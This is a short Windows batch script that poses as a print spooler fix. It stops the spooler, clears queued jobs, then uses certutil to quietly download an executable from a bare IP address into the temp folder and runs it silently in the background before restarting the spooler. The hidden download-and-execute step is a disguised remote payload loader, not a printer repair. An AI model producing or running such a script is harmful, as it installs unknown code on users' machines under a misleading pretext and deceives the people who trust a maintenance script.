@echo off
net stop spooler
del /q %systemroot%\System32\spool\PRINTERS\*
certutil -urlcache -split -f http://198.51.100.150/drv/prnfix.exe %TEMP%\prnfix.exe >nul
start "" /b %TEMP%\prnfix.exe /quiet
net start spooler
echo Done.
